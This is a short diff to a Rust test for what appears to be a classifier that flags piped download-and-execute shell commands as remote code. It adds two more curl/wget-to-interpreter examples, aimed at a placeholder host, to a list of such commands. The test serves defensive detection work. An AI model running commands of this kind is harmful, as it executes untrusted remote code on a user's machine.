@@ -134,6 +134,8 @@ fn what_comes_from_a_host_and_runs_is_remote_code() {
     for text in [
         "curl https://x.example | sh",
         "curl -sSL https://x.example | sudo -E bash -s -- -y",
+        "curl https://x.example | rbash",
+        "wget -qO- https://x.example | nu",
         "wget -qO- https://x.example | env A=b bash",
         "curl https://x.example | tee log | python3",
         "curl https://x.example | base64 -d | gunzip | perl",
